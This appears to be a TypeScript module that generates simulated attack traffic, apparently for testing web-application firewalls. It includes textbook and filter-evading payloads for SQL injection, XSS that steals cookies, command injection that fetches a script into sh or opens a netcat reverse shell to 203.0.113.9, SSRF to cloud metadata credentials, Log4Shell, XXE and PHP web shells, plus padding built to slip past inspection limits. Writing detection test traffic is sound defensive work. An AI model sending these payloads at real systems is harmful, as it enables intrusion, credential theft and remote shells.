/**
 * Attack traffic. `signature`: textbook payloads of each class (SQLi, XSS, traversal, command
 * injection, SSRF, SSTI, XXE, Log4Shell, NoSQL, LDAP, CRLF, RFI, code injection, deserialisation),
 * placed where applications read input (query, form, JSON, XML, headers, cookies, path).
 * `obfuscated`: the same intents dressed to slip past signatures — multi-level URL encoding, mixed
 * case, SQL comments, entity and Unicode escapes, shell globbing, nested Log4j lookups, numeric IPs,
 * base64 and high-entropy blobs, oversized bodies that push the payload past the inspected part, and
 * prototype pollution through `__proto__` / `constructor.prototype`.
 */
import type { Rng } from './rng.js';
import { addressPool } from './rng.js';
import {
  BROWSER_UAS,
  FORM,
  JSON_TYPE,
  LANGS,
  TOOL_UAS,
  browserHeaders,
  formEncode,
  type Draft,
} from './sim-request.js';

/** Where a payload goes. */
type Where = 'query' | 'form' | 'json' | 'header' | 'cookie' | 'path';

interface Shot {
  family: string;
  payload: string;
  where: Where;
  /** Parameter, JSON field, header or cookie name. */
  name: string;
  /** The payload is already written as it must appear on the wire (no further encoding). */
  raw?: boolean;
}

/** Routes that take the parameter, so attacks land where an application would read them. */
const ROUTE_OF: Record<string, string> = {
  id: '/product',
  q: '/search',
  sort: '/category/shoes',
  user: '/login',
  file: '/download',
  path: '/static',
  template: '/render',
  page: '/index.php',
  host: '/tools/ping',
  url: '/api/fetch',
  callback: '/api/webhooks',
  name: '/greet',
  filter: '/api/users',
  text: '/comments',
  redirect: '/logout',
};

const SIG: Record<string, { names: readonly string[]; payloads: readonly string[] }> = {
  sqli: {
    names: ['id', 'q', 'sort', 'user'],
    payloads: [
      "admin' OR '1'='1",
      '1 UNION SELECT username,password FROM users--',
      "1'; DROP TABLE users--",
      "1' AND SLEEP(5)--",
      "' OR 1=1#",
      '-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--',
      "1' AND extractvalue(1,concat(0x7e,version()))--",
      "1'; WAITFOR DELAY '0:0:5'--",
    ],
  },
  xss: {
    names: ['q', 'text', 'name'],
    payloads: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(document.cookie)>',
      '<svg onload=alert(1)>',
      "\"><script>fetch('//203.0.113.9/?c='+document.cookie)</script>",
      '<iframe src="javascript:alert(1)"></iframe>',
      '<body onload=alert(document.domain)>',
      'javascript:alert(document.cookie)',
    ],
  },
  traversal: {
    names: ['file', 'path', 'template'],
    payloads: [
      '../../../etc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '../../../../proc/self/environ',
      '/etc/shadow',
      '../../../../../../var/log/auth.log',
      '../../WEB-INF/web.xml',
    ],
  },
  cmdi: {
    names: ['host', 'file'],
    payloads: [
      '8.8.8.8; cat /etc/passwd',
      '127.0.0.1 | id',
      'example.org && whoami',
      '`uname -a`',
      '$(curl -s http://203.0.113.9/x.sh | sh)',
      '1.1.1.1; nc -e /bin/sh 203.0.113.9 4444',
    ],
  },
  ssrf: {
    names: ['url', 'callback'],
    payloads: [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://127.0.0.1:6379/',
      'gopher://127.0.0.1:25/_HELO',
      'file:///etc/passwd',
      'http://metadata.google.internal/computeMetadata/v1/instance/',
      'http://[::1]:8080/admin',
    ],
  },
  ssti: {
    names: ['name', 'template', 'q'],
    payloads: [
      '{{7*7}}',
      '{{config.items()}}',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      '${T(java.lang.Runtime).getRuntime().exec("id")}',
      '<%= system("id") %>',
      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    ],
  },
  nosqli: { names: ['user'], payloads: [] },
  ldapi: { names: ['user', 'filter'], payloads: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*'] },
  crlf: { names: ['redirect'], payloads: [] },
  rfi: {
    names: ['page'],
    payloads: [
      'http://203.0.113.5/shell.txt?',
      'php://filter/convert.base64-encode/resource=index.php',
      'ftp://203.0.113.5/r57.txt',
    ],
  },
  code_injection: {
    names: ['q', 'text'],
    payloads: [
      "<?php system($_GET['c']); ?>",
      "require('child_process').exec('id')",
      '__import__("os").system("id")',
    ],
  },
};

const XXE = [
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><note>&xxe;</note></order>',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.9/evil.dtd"> %ext;]><r/>',
  '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><d>&x;</d>',
];
const LOG4SHELL = [
  '${jndi:ldap://203.0.113.7:1389/Exploit}',
  '${jndi:rmi://203.0.113.7:1099/obj}',
  '${jndi:dns://203.0.113.7/a}',
];
const NOSQL_JSON = [
  '{"user":"admin","password":{"$ne":null}}',
  '{"user":{"$gt":""},"password":{"$gt":""}}',
  '{"$where":"sleep(5000) || true"}',
  '{"user":"admin","password":{"$regex":"^a"}}',
];
const DESERIALIZATION = [
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==',
  'O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}',
  'a:2:{i:0;O:8:"stdClass":0:{}i:1;s:4:"test";}',
];

/** Makes a request from a shot; the signature and obfuscated generators share it. */
function build(rng: Rng, shot: Shot, source: string, ua: string): Draft {
  const headers: Record<string, string> = browserHeaders(ua, rng.pick(LANGS));
  const enc = shot.raw ? shot.payload : encodeURIComponent(shot.payload);
  const route = ROUTE_OF[shot.name] ?? '/search';
  const base = { family: shot.family, headers, source };
  switch (shot.where) {
    case 'query': {
      const extra = rng.chance(0.5) ? `&lang=${rng.pick(['en', 'de'])}` : '';
      return { ...base, method: 'GET', path: `${route}?${shot.name}=${enc}${extra}` };
    }
    case 'form':
      headers['content-type'] = FORM;
      return {
        ...base,
        method: 'POST',
        path: route,
        body: shot.raw ? shot.payload : formEncode([[shot.name, shot.payload]]),
      };
    case 'json':
      headers['content-type'] = JSON_TYPE;
      return {
        ...base,
        method: 'POST',
        path: route.startsWith('/api/') ? route : `/api${route}`,
        body: shot.raw ? shot.payload : JSON.stringify({ [shot.name]: shot.payload, client: 'web' }),
      };
    case 'header':
      headers[shot.name] = shot.payload;
      return { ...base, method: 'GET', path: rng.pick(['/', '/search?q=boots', '/api/products']) };
    case 'cookie':
      headers.cookie = `${shot.name}=${enc}; consent=1`;
      return { ...base, method: 'GET', path: '/account' };
    case 'path':
      return { ...base, method: 'GET', path: `/static/${enc}` };
  }
}

/** Where a query-like payload may go besides the query. */
function placeArg(rng: Rng): Where {
  const r = rng.float();
  return r < 0.55 ? 'query' : r < 0.8 ? 'form' : 'json';
}

/** Signature attacks: textbook payloads of every class. */
export class SignatureAttacks {
  readonly #rng: Rng;
  readonly #sources: string[];
  constructor(rng: Rng) {
    this.#rng = rng;
    this.#sources = addressPool(rng, 40);
  }

  next(): Draft {
    const rng = this.#rng;
    const source = rng.pick(this.#sources);
    const ua = rng.chance(0.3) ? rng.pick(TOOL_UAS) : rng.pick(BROWSER_UAS);
    const family = rng.pick([...Object.keys(SIG), 'xxe', 'log4shell', 'deserialization']);
    switch (family) {
      case 'xxe': {
        const d = build(rng, { family, payload: '', where: 'json', name: 'x', raw: true }, source, ua);
        d.headers['content-type'] = 'application/xml';
        return { ...d, path: '/api/orders/import', body: rng.pick(XXE) };
      }
      case 'log4shell':
        return build(
          rng,
          {
            family,
            payload: rng.pick(LOG4SHELL),
            where: 'header',
            name: rng.pick(['user-agent', 'x-api-version', 'referer']),
          },
          source,
          ua,
        );
      case 'nosqli':
        return build(
          rng,
          { family, payload: rng.pick(NOSQL_JSON), where: 'json', name: 'user', raw: true },
          source,
          ua,
        );
      case 'crlf':
        return build(
          rng,
          {
            family,
            payload: '%0d%0aSet-Cookie:%20session=attacker',
            where: 'query',
            name: 'redirect',
            raw: true,
          },
          source,
          ua,
        );
      case 'deserialization':
        return build(
          rng,
          { family, payload: rng.pick(DESERIALIZATION), where: 'cookie', name: 'session' },
          source,
          ua,
        );
      default: {
        const s = SIG[family]!;
        const where = family === 'traversal' && rng.chance(0.2) ? 'path' : placeArg(rng);
        const payload = rng.pick(s.payloads);
        // A raw traversal path (`/static/../../etc/passwd`) rather than one encoded segment.
        if (where === 'path')
          return build(rng, { family, payload, where, name: 'path', raw: true }, source, ua);
        return build(rng, { family, payload, where, name: rng.pick(s.names) }, source, ua);
      }
    }
  }
}

// ---- obfuscation ---------------------------------------------------------------------------------

const enc1 = (s: string) =>
  encodeURIComponent(s).replace(/[!'()*.~-]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
const mixedCase = (rng: Rng, s: string) =>
  s.replace(/[a-z]/gi, (c) => (rng.chance(0.5) ? c.toUpperCase() : c.toLowerCase()));
const fullwidth = (s: string) =>
  s.replace(/[!-~]/g, (c) => (/[<>'"()]/.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c));

/** Filler of oversized bodies, built once. */
const PADDING = 'lorem ipsum dolor sit amet '.repeat(8000).replace(/ /g, '_');

/** Obfuscated attacks: each builder returns one evasive request. */
const OBFUSCATIONS: readonly { family: string; make: (rng: Rng) => Shot }[] = [
  {
    family: 'sqli.double_url',
    make: (rng) => ({
      family: '',
      payload: enc1(enc1(rng.pick(SIG.sqli!.payloads))),
      where: 'query',
      name: 'id',
      raw: true,
    }),
  },
  {
    family: 'sqli.comments',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        "1'/**/UnIoN/**/SeLeCt/**/username,password/**/FrOm/**/users--",
        "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
        "admin'/**/oR/**/0x31=0x31#",
        '1 AND(SELECT 1 FROM(SELECT SLEEP(5))a)',
        "1'||(SELECT/**/CHAR(97,100,109,105,110))||'",
      ]),
      where: placeArg(rng),
      name: 'id',
    }),
  },
  {
    family: 'sqli.whitespace',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        '1%09UNION%0ASELECT%0Bpassword%0CFROM%0Dusers',
        "1'%0aor%0a'x'%0a=%0a'x",
        '1%A0UNION%A0SELECT%A01',
      ]),
      where: 'query',
      name: 'id',
      raw: true,
    }),
  },
  {
    family: 'xss.mixed_case',
    make: (rng) => ({
      family: '',
      payload: mixedCase(
        rng,
        rng.pick(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=confirm`1`>']),
      ),
      where: placeArg(rng),
      name: 'q',
    }),
  },
  {
    family: 'xss.entities',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<svg><script>alert&#40;1&#41;</script>',
        '<details open ontoggle=&#x61;lert(1)>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
      ]),
      where: placeArg(rng),
      name: 'text',
    }),
  },
  {
    family: 'xss.unicode',
    make: (rng) =>
      rng.chance(0.5)
        ? {
            family: '',
            payload: '{"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
            where: 'json',
            name: 'text',
            raw: true,
          }
        : { family: '', payload: fullwidth('<script>alert(1)</script>'), where: 'query', name: 'q' },
  },
  {
    family: 'traversal.encoded',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        '..%252f..%252f..%252fetc%252fpasswd',
        '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd',
        '%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd',
        '....//....//....//etc/passwd',
        '..;/..;/..;/etc/passwd',
        '../../../etc/passwd%00.png',
      ]),
      where: 'query',
      name: 'file',
      raw: true,
    }),
  },
  {
    family: 'cmdi.obfuscated',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        "8.8.8.8;c'a't /e't'c/pa's'swd",
        '8.8.8.8;cat${IFS}/etc/passwd',
        '8.8.8.8|/???/c?t /???/p??s??',
        '8.8.8.8\n/bin/wh$@oami',
        '8.8.8.8;$(printf "\\x69\\x64")',
        '8.8.8.8 && w\\h\\o\\a\\m\\i',
      ]),
      where: placeArg(rng),
      name: 'host',
    }),
  },
  {
    family: 'ssrf.numeric_ip',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        'http://2852039166/latest/meta-data/',
        'http://0xA9FEA9FE/latest/meta-data/',
        'http://0251.0376.0251.0376/',
        'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
        'http://127.1:6379/',
        'http://169.254.169.254.nip.io/',
      ]),
      where: placeArg(rng),
      name: 'url',
    }),
  },
  {
    family: 'log4shell.nested',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        '${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://203.0.113.7/a}',
        '${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7/a}',
        '${j${env:NOPE:-n}di:ldap://203.0.113.7/a}',
        '${${upper:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7/a}',
      ]),
      where: 'header',
      name: rng.pick(['user-agent', 'x-forwarded-host', 'referer']),
    }),
  },
  {
    family: 'ssti.obfuscated',
    make: (rng) => ({
      family: '',
      payload: rng.pick([
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        '{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read() }}',
        '#{7*7}',
        "{%print(lipsum|attr('__globals__'))%}",
      ]),
      where: placeArg(rng),
      name: 'name',
    }),
  },
  {
    family: 'base64',
    make: (rng) => ({
      family: '',
      payload: Buffer.from(
        rng.pick([...SIG.sqli!.payloads, ...SIG.xss!.payloads, ...SIG.cmdi!.payloads]),
      ).toString('base64'),
      where: placeArg(rng),
      name: rng.pick(['data', 'state', 'token']),
    }),
  },
  {
    family: 'entropy_blob',
    make: (rng) => {
      const bytes = rng.bytes(rng.int(1024, 16 * 1024));
      return {
        family: '',
        payload: JSON.stringify({ blob: bytes.toString('base64'), v: 2 }),
        where: 'json',
        name: 'blob',
        raw: true,
      };
    },
  },
  {
    family: 'oversized',
    make: (rng) => {
      // Padding past a typical 128 KiB inspection window, then the payload.
      const pad = PADDING.slice(0, rng.int(130, 200) * 1024);
      const attack = rng.pick(SIG.sqli!.payloads);
      return rng.chance(0.5)
        ? {
            family: '',
            // The padding needs no escaping: built by hand, not stringified (200 KiB per request).
            payload: `{"note":"${pad}","id":${JSON.stringify(attack)}}`,
            where: 'json',
            name: 'note',
            raw: true,
          }
        : {
            family: '',
            payload: `note=${pad}&${formEncode([['id', attack]])}`,
            where: 'form',
            name: 'note',
            raw: true,
          };
    },
  },
  {
    family: 'proto_pollution',
    make: (rng) =>
      rng.pick<Shot>([
        {
          family: '',
          payload: '{"user":"bob","__proto__":{"isAdmin":true}}',
          where: 'json',
          name: 'x',
          raw: true,
        },
        {
          family: '',
          payload: '{"settings":{"constructor":{"prototype":{"isAdmin":true}}}}',
          where: 'json',
          name: 'x',
          raw: true,
        },
        {
          family: '',
          payload: '{"a":{"__pro\\u0074o__":{"polluted":1}}}',
          where: 'json',
          name: 'x',
          raw: true,
        },
        { family: '', payload: '1&__proto__[isAdmin]=true', where: 'query', name: 'id', raw: true },
        { family: '', payload: '1&constructor[prototype][admin]=1', where: 'query', name: 'id', raw: true },
      ]),
  },
];

/** Obfuscated attacks: payloads written to evade signatures. */
export class ObfuscatedAttacks {
  readonly #rng: Rng;
  readonly #sources: string[];
  constructor(rng: Rng) {
    this.#rng = rng;
    this.#sources = addressPool(rng, 40);
  }

  next(): Draft {
    const rng = this.#rng;
    const o = rng.pick(OBFUSCATIONS);
    const shot = { ...o.make(rng), family: o.family };
    // Evasive traffic wears a browser's clothes.
    return build(rng, shot, rng.pick(this.#sources), rng.pick(BROWSER_UAS));
  }
}

/** The obfuscation families (for documentation and tests). */
export const OBFUSCATION_FAMILIES: readonly string[] = OBFUSCATIONS.map((o) => o.family);
